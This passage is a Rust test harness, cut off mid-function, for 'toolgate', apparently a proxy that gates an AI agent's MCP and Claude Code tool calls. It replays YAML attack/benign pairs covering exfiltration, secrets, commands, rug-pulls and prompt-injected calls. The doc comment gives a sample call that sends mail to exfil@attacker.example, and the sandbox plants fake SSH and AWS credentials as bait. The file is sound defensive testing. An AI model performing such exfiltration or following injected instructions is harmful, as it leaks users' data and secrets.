//! The attack corpus runner: loads the declarative scenarios of `tests/attacks/*.yaml` and
//! replays each session through the real `toolgate wrap` binary in front of the
//! `attack_server` test server, with a scripted MCP client that answers approval prompts
//! (`elicitation/create`) as the scenario says, and the real `toolgate hook claude-code` for
//! the agent's own prompt and built-in tools, sharing one agent session at a real broker.
//!
//! A scenario file:
//!
//! ```yaml
//! kind: mail                      # the attack_server kind
//! policy: policies/mail.yaml      # relative to the file (or `policy_inline: "..."`)
//! cases:
//!   - name: poisoned-address-in-cc
//!     bullet: exfiltration        # which bullet of the corpus it covers
//!     attack:                     # a session (a list of steps, or {steps, server_args, …})
//!       - {call: search_emails, args: {query: x}, expect: allow}
//!       - {call: send_email, args: {to: [a@b], cc: [exfil@attacker.example]}, expect: deny}
//!     benign:
//!       - {call: search_emails, args: {query: x}, expect: allow}
//!       - {call: send_email, args: {to: [alice@team.example]}, expect: allow}
//! ```
//!
//! Steps: `call` (+ `args`, `expect: allow|deny|ask`, `human: allow_once|allow_session|deny`
//! (default `deny`), `repeat: N`), `read_resource` (a URI, + `expect`), `list: true`
//! (`tools/list`), `wait: list_changed` (wait for the notification, then list again),
//! `restart: [server args]` (stop the proxy and start it again with the same pin store).
//! Every step does exactly one of these things and takes only the keys that thing takes.
//!
//! Hook steps (a coding agent's own side, through `toolgate hook claude-code`, one process
//! per event as Claude Code runs it): `prompt: TEXT` (the user's prompt, `UserPromptSubmit`:
//! the destinations in it are vouched for), and `builtin: TOOL` (`Bash`, `WebFetch`, `Read`,
//! …; + `args` as the tool input, `expect`, `human`, `repeat`, `output`): a `PreToolUse` whose
//! decision is checked like a call's (exit 2 with the JSON deny = deny; exit 0 and nothing
//! = allow; exit 0 with the JSON ask = ask, one approval: the client's own prompt, answered by
//! `human`) and, when the tool runs and `output` is given, a `PostToolUse` with that output in
//! the tool's response shape. A session with hook steps runs a `SessionStart` first, which
//! starts a broker in the session's own directory (stopped at the end); hooks and the proxy
//! join the same agent session (`--session`). The proxy starts at the session's first MCP
//! step, so the hook events before it reach it when it joins; an MCP step may not follow a
//! `prompt` or `output` given after that (the broker relays those to a running proxy
//! asynchronously). Before a hook step that follows an MCP call, the runner waits (bounded)
//! until what the call's output taught the proxy has reached the broker.
//!
//! The task corpus (`tests/tasks/*.yaml`, measured by `crates/toolgate/tests/it/tasks.rs`)
//! uses the same format with two more keys: `server: servers/travel.yaml` (in the file, next
//! to `kind`) runs `attack_server --spec` with the tools and data of that file (relative to
//! the scenario file) instead of a built-in kind, and `attacker: true` on a `call` or
//! `builtin` step marks the call an injection asked for (the measure: did it reach the
//! server). [`run_session_with`] can answer every approval prompt of a session one way
//! ([`RunOptions::human`]: accept all, decline all) whatever the steps' `human` say;
//! [`SessionResult::steps`] says what became of each call, so a measurement can count
//! rather than fail on the first expectation.
//!
//! `${home}` and `${workspace}` in arguments and URIs expand to the session's directories
//! (a fresh temporary workspace and a fake home holding `.ssh/id_rsa`, `.aws/credentials`).
//!
//! Upstream side effects: unless a session states `upstream:` (the exact list of tool names,
//! or `resources/read URI`, the server must have received), the expected record is every
//! step that should reach the server (expect `allow`, or `ask` answered with an allow), with
//! its exact arguments. Either way, the server's record must match exactly: a blocked call
//! that arrived anyway fails the session.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::print_stdout,
    missing_debug_implementations,
    reason = "test code: a broken fixture or harness step panics with a message, failing the test; reports progress and results on the terminal; test fixtures and handles, never formatted"
)]

use std::collections::BTreeMap;
use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdin, Command, Stdio};
use std::sync::mpsc::{Receiver, RecvTimeoutError, channel};
use std::time::{Duration, Instant};

use serde::Deserialize;
use serde_json::{Value, json};

/// The bound on one whole session (every step, restarts included).
pub const SESSION_TIMEOUT: Duration = Duration::from_secs(45);

/// One scenario file.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ScenarioFile {
    /// The `attack_server` kind.
    pub kind: String,
    /// A policy file, relative to the scenario file.
    #[serde(default)]
    pub policy: Option<String>,
    /// An inline policy (instead of `policy`).
    #[serde(default)]
    pub policy_inline: Option<String>,
    /// A server spec (`attack_server --spec`), relative to the scenario file: the tools and
    /// their data, instead of the built-in ones of `kind`.
    #[serde(default)]
    pub server: Option<String>,
    /// Files to create: `path` (relative = workspace, `~/` = home) → content.
    #[serde(default)]
    pub files: BTreeMap<String, String>,
    /// Symlinks to create: link → target (same path forms).
    #[serde(default)]
    pub symlinks: BTreeMap<String, String>,
    /// The attack/benign pairs.
    pub cases: Vec<Case>,
}

/// An attack and its benign twin.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Case {
    pub name: String,
    /// The corpus bullet it covers (`exfiltration`, `secrets`, `commands`, `urls`,
    /// `rug-pull`, `budget`).
    pub bullet: String,
    /// Overrides the file's policy for this case.
    #[serde(default)]
    pub policy_inline: Option<String>,
    pub attack: Session,
    pub benign: Session,
    /// A known bypass: the reason. The attack is expected to fail its expectations.
    #[serde(default)]
    pub known_failure: Option<String>,
}

/// A session: steps, or steps with options.
#[derive(Debug, Clone, Deserialize)]
#[serde(untagged)]
pub enum Session {
    Steps(Vec<Step>),
    Full(SessionSpec),
}

/// A session with options.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct SessionSpec {
    pub steps: Vec<Step>,
    /// Extra `attack_server` arguments (`--rug-pull-after 1`, `--poison TEXT`, …).
    #[serde(default)]
    pub server_args: Vec<String>,
    /// Skip the initial `tools/list`.
    #[serde(default)]
    pub no_initial_list: bool,
    /// The exact upstream record expected (tool names / `resources/read URI`).
    #[serde(default)]
    pub upstream: Option<Vec<String>>,
}

impl Session {
    fn spec(&self) -> SessionSpec {
        match self {
            Session::Steps(steps) => SessionSpec {
                steps: steps.clone(),
                server_args: Vec::new(),
                no_initial_list: false,
                upstream: None,
            },
            Session::Full(spec) => spec.clone(),
        }
    }
}

/// One step of a session.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Step {
    #[serde(default)]
    pub call: Option<String>,
    #[serde(default)]
    pub args: Option<Value>,
    #[serde(default)]
    pub read_resource: Option<String>,
    #[serde(default)]
    pub list: bool,
    #[serde(default)]
    pub wait: Option<String>,
    #[serde(default)]
    pub restart: Option<Vec<String>>,
    #[serde(default)]
    pub expect: Option<Verdict>,
    #[serde(default)]
    pub human: Option<HumanAnswer>,
    #[serde(default)]
    pub repeat: Option<u32>,
    /// The user's prompt: a Claude Code `UserPromptSubmit` hook event.
    #[serde(default)]
    pub prompt: Option<String>,
    /// A built-in tool call of the client (`Bash`, `WebFetch`, `Read`, …): a `PreToolUse`
    /// hook event with `args` as the tool input, decided as `expect` says.
    #[serde(default)]
    pub builtin: Option<String>,
    /// The built-in tool's output, when it runs: a `PostToolUse` hook event.
    #[serde(default)]
    pub output: Option<String>,
    /// The call an injection asked for (a `call` or `builtin` of an injected task): the
    /// task corpus counts the attack as succeeded when it reached the server (or ran).
    #[serde(default)]
    pub attacker: bool,
}

impl Step {
    /// A step that runs `toolgate hook` rather than talking to the proxy.
    fn is_hook(&self) -> bool {
        self.prompt.is_some() || self.builtin.is_some()
    }

    /// A hook step that changes what the session knows (vouched or tainted destinations).
    fn teaches(&self) -> bool {
        self.prompt.is_some() || self.output.is_some()
    }

    /// Panics unless the step does exactly one thing, with only the keys that thing takes.
    fn check(&self, case: &str, at: usize) {
        let actions = [
            ("call", self.call.is_some()),
            ("read_resource", self.read_resource.is_some()),
            ("list", self.list),
            ("wait", self.wait.is_some()),
            ("restart", self.restart.is_some()),
            ("prompt", self.prompt.is_some()),
            ("builtin", self.builtin.is_some()),
        ];
        let set: Vec<&str> = actions.iter().filter(|a| a.1).map(|a| a.0).collect();
        let [action] = set.as_slice() else {
            panic!(
                "case `{case}` step {at}: one of `call`, `read_resource`, `list`, `wait`, `restart`, `prompt`, `builtin` is needed, got {set:?}"
            );
        };
        let decided = matches!(*action, "call" | "read_resource" | "builtin");
        let extra = [
            (
                "args",
                self.args.is_some() && !matches!(*action, "call" | "builtin"),
            ),
            ("expect", self.expect.is_some() && !decided),
            ("human", self.human.is_some() && !decided),
            ("repeat", self.repeat.is_some() && !decided),
            ("output", self.output.is_some() && *action != "builtin"),
            (
                "attacker",
                self.attacker && !matches!(*action, "call" | "builtin"),
            ),
        ];
        if let Some((key, _)) = extra.iter().find(|e| e.1) {
            panic!("case `{case}` step {at}: `{key}` does not go with `{action}`");
        }
    }
}

/// A verdict as the client sees it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Verdict {
    Allow,
    Deny,
    Ask,
    /// A JSON-RPC error (not a verdict).
    Error,
}

/// The scripted human's answer to an approval prompt.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum HumanAnswer {
    AllowOnce,
    AllowSession,
    Deny,
}

impl HumanAnswer {
    fn choice(self) -> &'static str {
        match self {
            HumanAnswer::AllowOnce => "allow_once",
            HumanAnswer::AllowSession => "allow_session",
            HumanAnswer::Deny => "deny",
        }
    }
}

/// Loads every `*.yaml` scenario file directly under `dir` (sorted by name).
pub fn load_corpus(dir: &Path) -> Vec<(PathBuf, ScenarioFile)> {
    let mut paths: Vec<PathBuf> = std::fs::read_dir(dir)
        .unwrap_or_else(|e| panic!("cannot read `{}`: {e}", dir.display()))
        .filter_map(Result::ok)
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|x| x == "yaml"))
        .collect();
    paths.sort();
    paths
        .into_iter()
        .map(|p| {
            let text = std::fs::read_to_string(&p).unwrap();
            let file: ScenarioFile =
                serde_saphyr::from_str(&text).unwrap_or_else(|e| panic!("`{}`: {e}", p.display()));
            (p, file)
        })
        .collect()
}

/// What became of one `call`, `read_resource` or `builtin` step (each repetition).
#[derive(Debug, Clone)]
pub struct StepOutcome {
    /// The step's number (from 1).
    pub at: usize,
    /// The call as shown (`tool {args}`).
    pub shown: String,
    /// The step is marked `attacker`.
    pub attacker: bool,
    /// The verdict the client saw.
    pub verdict: Verdict,
    /// It reached the server (a built-in tool: it ran).
    pub reached: bool,
    /// The first line of toolgate's reason, when it denied or asked.
    pub why: String,
    /// What the server records when it receives the call (MCP steps).
    sent: Option<Value>,
}

impl StepOutcome {
    /// The server's record holds this call.
    fn shown_in(&self, record: &[Value]) -> bool {
        self.sent.as_ref().is_some_and(|s| record.contains(s))
    }
}

/// How a session is run.
#[derive(Debug, Clone, Copy, Default)]
pub struct RunOptions {
    /// Answer every approval prompt this way, whatever the steps' `human` say (a careless
    /// human who accepts everything, or one who declines everything).
    pub human: Option<HumanAnswer>,
}

/// The outcome of one session.
#[derive(Debug, Clone)]
pub struct SessionResult {
    /// Every mismatch (empty = passed).
    pub failures: Vec<String>,
    /// Each call step's outcome, in order (empty when the session could not start).
    pub steps: Vec<StepOutcome>,
    /// What the server received (`{"method","name","arguments"}` lines of its record).
    pub record: Vec<Value>,
    /// Approval prompts seen.
    pub approvals: usize,
    /// Calls the proxy denied outright.
    pub denied: usize,
    /// Calls that were asked and the human refused.
    pub refused: usize,
}

impl SessionResult {
    pub fn passed(&self) -> bool {
        self.failures.is_empty()
    }

    /// Every call step reached the server (a built-in tool: ran), and the session ran to its
    /// end: the task got done.
    pub fn completed(&self, steps: usize) -> bool {
        self.steps.len() >= steps && self.steps.iter().all(|s| s.reached)
    }

    /// The steps marked `attacker` that reached the server (or ran).
    pub fn attacker_reached(&self) -> Vec<&StepOutcome> {
        self.steps
            .iter()
            .filter(|s| s.attacker && s.reached)
            .collect()
    }
}

/// Everything a session needs to start the proxy.
pub struct Env<'a> {
    /// The `toolgate` binary.
    pub toolgate: &'a Path,
    /// The `attack_server` binary.
    pub server: &'a Path,
    /// The scenario file's directory (policy paths are relative to it).
    pub dir: &'a Path,
}

struct Sandbox {
    _root: tempfile::TempDir,
    base: PathBuf,
    work: PathBuf,
    home: PathBuf,
}

impl Sandbox {
    fn new(file: &ScenarioFile) -> Sandbox {
        let root = tempfile::Builder::new()
            .prefix("toolgate-attack-")
            .tempdir()
            .unwrap();
        let base = root.path().canonicalize().unwrap();
        let work = base.join("work");
        let home = base.join("home");
        for d in [
            work.join("src"),
            home.join(".ssh"),
            home.join(".aws"),
            base.join("pins"),
            base.join("broker"),
        ] {
            std::fs::create_dir_all(d).unwrap();
        }
        let mut files: BTreeMap<String, String> = [
            ("README.md", "# app\nRun `cargo test`.\n"),
            ("src/main.rs", "fn main() {}\n"),
            ("notes.txt", "meeting notes: ship on friday\n"),
            (".env", "API_KEY=sk-live-FAKE-NOT-A-SECRET\n"),
            (
                "~/.ssh/id_rsa",
                "-----BEGIN OPENSSH PRIVATE KEY-----\nFAKE\n",
            ),
            (
                "~/.aws/credentials",
                "[default]\naws_secret_access_key=FAKE\n",
            ),
        ]
        .into_iter()
        .map(|(a, b)| (a.to_owned(), b.to_owned()))
        .collect();
        files.extend(file.files.clone());
        let sb = Sandbox {
            _root: root,
            base,
            work,
            home,
        };
        for (path, content) in files {
            let p = sb.resolve(&path);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, content).unwrap();
        }
        for (link, target) in &file.symlinks {
            let l = sb.resolve(link);
            std::fs::create_dir_all(l.parent().unwrap()).unwrap();
            std::os::unix::fs::symlink(sb.resolve(target), l).unwrap();
        }
        sb
    }

    /// `${home}` and `${workspace}` in a string.
    fn expand_str(&self, s: &str) -> String {
        s.replace("${home}", &self.home.to_string_lossy())
            .replace("${workspace}", &self.work.to_string_lossy())
    }

    /// `${home}` and `${workspace}` in every string of a JSON value.
    fn expand(&self, v: &Value) -> Value {
        match v {
            Value::String(s) => Value::String(self.expand_str(s)),
            Value::Array(a) => Value::Array(a.iter().map(|x| self.expand(x)).collect()),
            Value::Object(o) => {
                Value::Object(o.iter().map(|(k, x)| (k.clone(), self.expand(x))).collect())
            }
            other => other.clone(),
        }
    }

    fn resolve(&self, path: &str) -> PathBuf {
        match path.strip_prefix("~/") {
            Some(rest) => self.home.join(rest),
            None => self.work.join(path),
        }
    }
}

struct Client {
    child: Child,
    stdin: Option<ChildStdin>,
    frames: Receiver<Value>,
    next_id: i64,
    notifications: Vec<String>,
    /// The message of the last approval prompt (`elicitation/create`) answered.
    last_prompt: Option<String>,
}

impl Client {
    fn spawn(mut cmd: Command) -> Client {
        cmd.stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null());
        let mut child = cmd.spawn().expect("spawn toolgate wrap");
        let stdout = child.stdout.take().unwrap();
        let (tx, frames) = channel();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines() {
                let Ok(line) = line else { break };
                if line.trim().is_empty() {
                    continue;
                }
                let v = serde_json::from_str::<Value>(&line)
                    .unwrap_or_else(|_| json!({"unparseable": line}));
                if tx.send(v).is_err() {
                    break;
                }
            }
        });
        Client {
            stdin: child.stdin.take(),
            child,
            frames,
            next_id: 1,
            notifications: Vec::new(),
            last_prompt: None,
        }
    }

    fn send(&mut self, v: &Value) -> Result<(), String> {
        let stdin = self.stdin.as_mut().ok_or("stdin closed")?;
        let mut bytes = serde_json::to_vec(v).unwrap();
        bytes.push(b'\n');
        stdin
            .write_all(&bytes)
            .and_then(|()| stdin.flush())
            .map_err(|e| format!("the proxy closed its stdin: {e}"))
    }

    fn next(&mut self, deadline: Instant, what: &str) -> Result<Value, String> {
        let left = deadline.saturating_duration_since(Instant::now());
        match self.frames.recv_timeout(left) {
            Ok(v) => Ok(v),
            Err(RecvTimeoutError::Timeout) => Err(format!("no answer to `{what}` in time")),
            Err(RecvTimeoutError::Disconnected) => {
                Err(format!("the proxy exited while `{what}` was pending"))
            }
        }
    }

    /// Sends a request; answers prompts with `human`; returns (response, prompts).
    fn request(
        &mut self,
        method: &str,
        params: Value,
        deadline: Instant,
        human: Option<HumanAnswer>,
    ) -> Result<(Value, usize), String> {
        let id = self.next_id;
        self.next_id += 1;
        self.send(&json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params}))?;
        let mut prompts = 0;
        loop {
            let frame = self.next(deadline, method)?;
            if let Some(inner) = frame.get("method").and_then(Value::as_str) {
                let inner = inner.to_owned();
                match frame.get("id").cloned() {
                    Some(rid) => {
                        let reply = if inner == "elicitation/create" {
                            prompts += 1;
                            self.last_prompt = frame
                                .pointer("/params/message")
                                .and_then(Value::as_str)
                                .map(str::to_owned);
                            let answer = human.unwrap_or(HumanAnswer::Deny);
                            let offered = frame
                                .pointer("/params/requestedSchema/properties/decision/enum")
                                .and_then(Value::as_array)
                                .is_some_and(|c| {
                                    c.iter().any(|c| c.as_str() == Some(answer.choice()))
                                });
                            let result = if answer != HumanAnswer::Deny && offered {
                                json!({"action": "accept", "content": {"decision": answer.choice()}})
                            } else {
                                json!({"action": "decline"})
                            };
                            json!({"jsonrpc": "2.0", "id": rid, "result": result})
                        } else if inner == "ping" {
                            json!({"jsonrpc": "2.0", "id": rid, "result": {}})
                        } else {
                            json!({"jsonrpc": "2.0", "id": rid,
                                   "error": {"code": -32601, "message": "not supported"}})
                        };
                        self.send(&reply)?;
                    }
                    None => self.notifications.push(inner),
                }
                continue;
            }
            if frame.get("id").and_then(Value::as_i64) == Some(id) {
                return Ok((frame, prompts));
            }
            if frame.get("unparseable").is_some() {
                return Err(format!("the proxy wrote a frame that is not JSON: {frame}"));
            }
        }
    }

    fn wait_notification(&mut self, method: &str, deadline: Instant) -> Result<(), String> {
        while !self.notifications.iter().any(|m| m == method) {
            let frame = self.next(deadline, method)?;
            if frame.get("id").is_none()
                && let Some(m) = frame.get("method").and_then(Value::as_str)
            {
                self.notifications.push(m.to_owned());
            }
        }
        self.notifications.retain(|m| m != method);
        Ok(())
    }

    fn shutdown(mut self) {
        drop(self.stdin.take());
        let deadline = Instant::now() + Duration::from_secs(10);
        while Instant::now() < deadline {
            if matches!(self.child.try_wait(), Ok(Some(_))) {
                return;
            }
            // Polling an exit status: there is no blocking wait with a timeout.
            std::thread::sleep(Duration::from_millis(10));
        }
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Drop for Client {
    fn drop(&mut self) {
        if let Ok(None) = self.child.try_wait() {
            let _ = self.child.kill();
            let _ = self.child.wait();
        }
    }
}

/// True when a tool result was written by toolgate rather than the upstream server.
fn by_toolgate(result: &Value) -> bool {
    result.pointer("/_meta/dev.toolgate~1decision").is_some()
        || result
            .pointer("/content/0/text")
            .and_then(Value::as_str)
            .is_some_and(|t| t.starts_with("toolgate "))
}

/// Classifies a response: (verdict seen, reached the server).
fn classify(response: &Value, prompts: usize) -> (Verdict, bool) {
    let reached = response
        .get("result")
        .is_some_and(|r| !(r.get("isError") == Some(&json!(true)) && by_toolgate(r)));
    if prompts > 0 {
        return (Verdict::Ask, reached);
    }
    let blocked_error = response
        .pointer("/error/message")
        .and_then(Value::as_str)
        .is_some_and(|m| m.starts_with("toolgate "));
    match response.get("result") {
        None if blocked_error => (Verdict::Deny, false),
        None => (Verdict::Error, false),
        Some(_) if !reached => (Verdict::Deny, false),
        Some(_) => (Verdict::Allow, true),
    }
}

fn label(v: Verdict) -> &'static str {
    match v {
        Verdict::Allow => "allow",
        Verdict::Deny => "deny",
        Verdict::Ask => "ask",
        Verdict::Error => "error",
    }
}

fn proxy_command(
    env: &Env<'_>,
    sb: &Sandbox,
    policy: &Path,
    server_args: &[String],
    session: Option<&str>,
) -> Command {
    let mut cmd = Command::new(env.toolgate);
    cmd.arg("wrap")
        .arg("--policy")
        .arg(policy)
        .arg("--workspace")
        .arg(&sb.work)
        .arg("--audit")
        .arg(sb.base.join("audit.jsonl"))
        .args(["--approval", "client", "--server", "attack"]);
    if let Some(name) = session {
        cmd.args(["--session", name]);
    }
    cmd.arg("--")
        .arg(env.server)
        .arg("--record")
        .arg(sb.base.join("record.jsonl"))
        .args(server_args);
    sandbox_env(&mut cmd, sb);
    cmd
}

/// The environment of every `toolgate` process of a session: the fake home, the session's
/// own pin store and broker directory, no user configuration.
fn sandbox_env(cmd: &mut Command, sb: &Sandbox) {
    cmd.env("HOME", &sb.home)
        .env("TOOLGATE_PINS_DIR", sb.base.join("pins"))
        .env("TOOLGATE_BROKER_DIR", sb.base.join("broker"))
        .env_remove("XDG_CONFIG_HOME")
        .env_remove("XDG_DATA_HOME")
        .env_remove("XDG_STATE_HOME")
        .env_remove("TOOLGATE_LOG");
}

#[allow(
    clippy::too_many_arguments,
    reason = "one call site passes every knob of the scenario explicitly"
)]
fn start(
    env: &Env<'_>,
    sb: &Sandbox,
    policy: &Path,
    server_args: &[String],
    session: Option<&str>,
    list: bool,
    deadline: Instant,
) -> Result<Client, String> {
    let mut client = Client::spawn(proxy_command(env, sb, policy, server_args, session));
    let (init, _) = client.request(
        "initialize",
        json!({"protocolVersion": "2025-06-18",
               "capabilities": {"elicitation": {"form": {}}},
               "clientInfo": {"name": "attack-corpus", "version": "0"}}),
        deadline,
        None,
    )?;
    if init.get("result").is_none() {
        return Err(format!("initialize failed: {init}"));
    }
    client.send(&json!({"jsonrpc": "2.0", "method": "notifications/initialized"}))?;
    if list {
        let (r, _) = client.request("tools/list", json!({}), deadline, None)?;
        if r.get("result").is_none() {
            return Err(format!("tools/list failed: {r}"));
        }
    }
    Ok(client)
}

/// The agent session that the hooks and the proxy of a hook-driven session share at the
/// broker (`--session` on both).
const AGENT_SESSION: &str = "corpus-agent";

/// What one `toolgate hook` process did.
struct HookRun {
    code: Option<i32>,
    stdout: String,
    stderr: String,
}

impl HookRun {
    /// The verdict as Claude Code sees it: exit 2 with a JSON deny; exit 0 with nothing (no
    /// decision: the policy allowed it) or with a JSON ask; anything else is an error.
    fn verdict(&self) -> Verdict {
        let decision = serde_json::from_str::<Value>(&self.stdout)
            .ok()
            .and_then(|v| {
                v.pointer("/hookSpecificOutput/permissionDecision")
                    .and_then(Value::as_str)
                    .map(str::to_owned)
            });
        match (
            self.code,
            self.stdout.trim().is_empty(),
            decision.as_deref(),
        ) {
            (Some(2), false, Some("deny")) => Verdict::Deny,
            (Some(0), true, _) => Verdict::Allow,
            (Some(0), false, Some("ask")) => Verdict::Ask,
            _ => Verdict::Error,
        }
    }

    /// The first line of the reason the client would show.
    fn why(&self) -> String {
        let text = serde_json::from_str::<Value>(&self.stdout)
            .ok()
            .and_then(|v| {
                v.pointer("/hookSpecificOutput/permissionDecisionReason")
                    .and_then(Value::as_str)
                    .map(str::to_owned)
            })
            .unwrap_or_else(|| format!("exit {:?}; {}", self.code, self.stderr.trim()));
        text.lines()
            .next()
            .unwrap_or("")
            .chars()
            .take(160)
            .collect()
    }
}

/// Claude Code hooks (`toolgate hook claude-code`) of one session, run as the client runs
/// them: a fresh process per event, the event's JSON on stdin. The first one starts the
/// session's broker (its own directory); dropping this stops it.
struct Hooks<'a> {
    toolgate: &'a Path,
    sb: &'a Sandbox,
    policy: PathBuf,
}

impl Hooks<'_> {
    /// Claude Code's transcript of the session, where Claude Code keeps them (in the
    /// sandbox's home); a prompt vouches only once it is recorded there.
    fn transcript(&self) -> PathBuf {
        self.sb
            .home
            .join(".claude/projects/-work")
            .join("attack-corpus.jsonl")
    }

    /// Records what the user typed as Claude Code does: a user message in the transcript.
    fn record_prompt(&self, text: &str) -> Result<(), String> {
        let path = self.transcript();
        if let Some(dir) = path.parent() {
            std::fs::create_dir_all(dir).map_err(|e| format!("cannot create {dir:?}: {e}"))?;
        }
        let line = json!({
            "parentUuid": null, "isSidechain": false, "userType": "external",
            "cwd": self.sb.work, "sessionId": "attack-corpus", "type": "user",
            "message": {"role": "user", "content": text}
        });
        let mut f = std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(&path)
            .map_err(|e| format!("cannot open {path:?}: {e}"))?;
        writeln!(f, "{line}").map_err(|e| format!("cannot write {path:?}: {e}"))
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut cmd = Command::new(self.toolgate);
        cmd.args(args);
        sandbox_env(&mut cmd, self.sb);
        cmd
    }

    /// Runs one hook event: `event` with the members of `extra` (an object), shaped as
    /// Claude Code's hooks reference shows its hook input
    /// (https://code.claude.com/docs/en/hooks, "Hook Input").
    fn event(&self, event: &str, extra: Value, deadline: Instant) -> Result<HookRun, String> {
        let mut input = json!({
            "session_id": "attack-corpus",
            "transcript_path": self.transcript(),
            "cwd": self.sb.work,
            "permission_mode": "default",
            "hook_event_name": event,
        });
        if let (Some(o), Value::Object(e)) = (input.as_object_mut(), extra) {
            o.extend(e);
        }
        let mut cmd = self.command(&["hook", "claude-code", "--session", AGENT_SESSION]);
        cmd.arg("--policy")
            .arg(&self.policy)
            .arg("--audit")
            .arg(self.sb.base.join("hook-audit.jsonl"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let mut child = cmd
            .spawn()
            .map_err(|e| format!("cannot run `toolgate hook`: {e}"))?;
        let mut stdin = child.stdin.take().ok_or("no stdin")?;
        let bytes = serde_json::to_vec(&input).unwrap();
        // The hook may answer before reading everything: write from a thread.
        let writer = std::thread::spawn(move || {
            let _ = stdin.write_all(&bytes);
        });
        let (tx, rx) = channel();
        std::thread::spawn(move || {
            let _ = tx.send(child.wait_with_output());
        });
        let left = deadline.saturating_duration_since(Instant::now());
        let out = match rx.recv_timeout(left) {
            Ok(Ok(out)) => out,
            Ok(Err(e)) => return Err(format!("`toolgate hook` ({event}): {e}")),
            Err(_) => return Err(format!("`toolgate hook` ({event}) did not exit in time")),
        };
        let _ = writer.join();
        Ok(HookRun {
            code: out.status.code(),
            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        })
    }

    /// The broker's pid and the taint tokens its sessions share (`toolgate status`).
    fn status(&self) -> Option<(u32, usize)> {
        let out = self.command(&["status"]).output().ok()?;
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        let number = |after: &str, end: char| -> Option<usize> {
            let at = text.find(after)? + after.len();
            text.get(at..)?.split(end).next()?.trim().parse().ok()
        };
        let pid = u32::try_from(number("reachable (pid ", ')')?).ok()?;
        let tokens = number(" sharing ", 't').unwrap_or(0);
        Some((pid, tokens))
    }

    /// Waits (bounded) until the broker's sessions share more than `before` taint tokens:
    /// what a proxy saw in an output reaches the broker after the client has the result.
    fn wait_shared(&self, before: usize) {
        crate::wait_until(Duration::from_secs(5), || {
            self.status().is_some_and(|(_, n)| n > before)
        });
    }

    fn shared(&self) -> usize {
        self.status().map_or(0, |(_, n)| n)
    }
}

impl Drop for Hooks<'_> {
    fn drop(&mut self) {
        // The broker a hook starts outlives it by design: stop it.
        if let Some((pid, _)) = self.status() {
            let _ = Command::new("kill").arg(pid.to_string()).status();
            let socket = self.sb.base.join("broker").join("broker.sock");
            crate::wait_until(Duration::from_secs(10), || !socket.exists());
        }
    }
}

/// A built-in tool's output as Claude Code hands it to `PostToolUse` (`tool_response`). The
/// shapes are those of Claude Code's tool results as its hook inputs carry them (the same as
/// `crates/toolgate/tests/it/hook_sessions.rs`).
fn tool_response(tool: &str, args: &Value, output: &str) -> Value {
    let lines = output.lines().count();
    match tool {
        "Bash" => json!({"stdout": output, "stderr": "", "interrupted": false, "isImage": false}),
        "WebFetch" => json!({
            "bytes": output.len(), "code": 200, "codeText": "OK", "durationMs": 12,
            "result": output, "url": args.get("url").cloned().unwrap_or(Value::Null)
        }),
        "Read" => json!({"type": "text", "file": {
            "filePath": args.get("file_path").cloned().unwrap_or(Value::Null),
            "content": output, "numLines": lines, "startLine": 1, "totalLines": lines
        }}),
        other => panic!("no `output` shape for the built-in tool `{other}` (Bash, WebFetch, Read)"),
    }
}

/// Checks the order of a session's steps: once the proxy runs, what a later hook event
/// teaches the session (a prompt, a tool's output) reaches the proxy asynchronously through
/// the broker, so no MCP step may follow such a hook step (it would race the relay). Hook
/// events before the proxy starts reach it when it joins the session.
fn check_order(case: &str, steps: &[Step]) {
    let Some(first_mcp) = steps.iter().position(|s| !s.is_hook()) else {
        return;
    };
    if let Some(teach) = steps
        .iter()
        .enumerate()
        .skip(first_mcp)
        .find(|(_, s)| s.is_hook() && s.teaches())
        .map(|(i, _)| i)
        && let Some(later) = steps.iter().skip(teach).position(|s| !s.is_hook())
    {
        panic!(
            "case `{case}`: step {} (an MCP step) follows step {} (a prompt or a built-in tool's output) after the proxy started; the broker relays hook events to a running proxy asynchronously. help: put the prompt or output before the first MCP step",
            teach + later + 1,
            teach + 1
        );
    }
}

/// Runs one session of `file` (with `kind` and the case's policy) and checks it.
pub fn run_session(
    env: &Env<'_>,
    file: &ScenarioFile,
    case: &Case,
    session: &Session,
) -> SessionResult {
    run_session_with(env, file, case, session, RunOptions::default())
}

/// The number of steps of a session that call something (`call`, `read_resource`,
/// `builtin`), counting repetitions: what [`SessionResult::completed`] expects to have run.
pub fn call_steps(session: &Session) -> usize {
    session
        .spec()
        .steps
        .iter()
        .filter(|s| s.call.is_some() || s.read_resource.is_some() || s.builtin.is_some())
        .map(|s| s.repeat.unwrap_or(1) as usize)
        .sum()
}

/// [`run_session`] with options (one answer for every approval prompt).
pub fn run_session_with(
    env: &Env<'_>,
    file: &ScenarioFile,
    case: &Case,
    session: &Session,
    options: RunOptions,
) -> SessionResult {
    let mut spec = session.spec();
    if let Some(answer) = options.human {
        for step in &mut spec.steps {
            if step.call.is_some() || step.read_resource.is_some() || step.builtin.is_some() {
                step.human = Some(answer);
            }
        }
    }
    let sb = Sandbox::new(file);
    let policy_path = sb.base.join("policy.yaml");
    let policy = match (&case.policy_inline, &file.policy_inline, &file.policy) {
